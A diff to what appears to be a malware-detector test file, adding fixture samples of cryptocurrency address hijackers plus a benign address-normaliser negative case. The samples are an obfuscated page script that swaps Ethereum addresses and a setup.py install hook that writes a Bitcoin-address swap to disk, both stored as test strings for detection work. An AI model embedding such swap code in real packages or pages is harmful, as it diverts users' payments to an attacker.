@@ -279,6 +279,16 @@ CLIPPERS = {
         f"  if (/^0x[a-fA-F0-9]{{40}}$/.test(t)) await navigator.clipboard.writeText('{ETH}');\n"
         "}, 500);\n",
     ),
+    "an obfuscated page script: the swap without a clipboard name in sight": (
+        "package/lib/page.js",
+        "var _0x1=['value','replace'];function check(){var v=inputElement[_0x1[0]];"
+        f"v=v[_0x1[1]](/^(0x)[a-fA-F0-9]{{40}}$/,'{ETH}');inputElement[_0x1[0]]=v;}}\n",
+    ),
+    "a re.sub swap, carried in an install hook's string": (
+        "x-1.0/setup.py",
+        "import os\nJS = (\"text = re.sub(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', "
+        f"'{BTC}', text)\")\nopen(os.path.expanduser('~/x.py'), 'w').write(JS)\n",
+    ),
 }
 
 
@@ -290,6 +300,13 @@ def test_clippers_are_malicious(path: str, body: str) -> None:
 
 
 CLIPBOARD_ORDINARY = {
+    "an address normaliser: a pattern replaced by its match or a placeholder": (
+        "eth_tools/checksum.py",
+        "import re\nLOWER = re.compile(r'0x[a-fA-F0-9]{40}')\n"
+        "def norm(t):\n    return LOWER.sub(lambda m: m.group().lower(), t)\n"
+        "def blank(t):\n    return re.sub(r'0x[a-fA-F0-9]{40}', "
+        "'0x0000000000000000000000000000000000000000', t)\n",
+    ),
     "a wallet library: address regexes and contract addresses, no clipboard": (
         "eth_tools/address.py",
         "import re\n_HEX_ADDRESS = re.compile(r'^(0x)?[0-9a-fA-F]{40}$')\n"
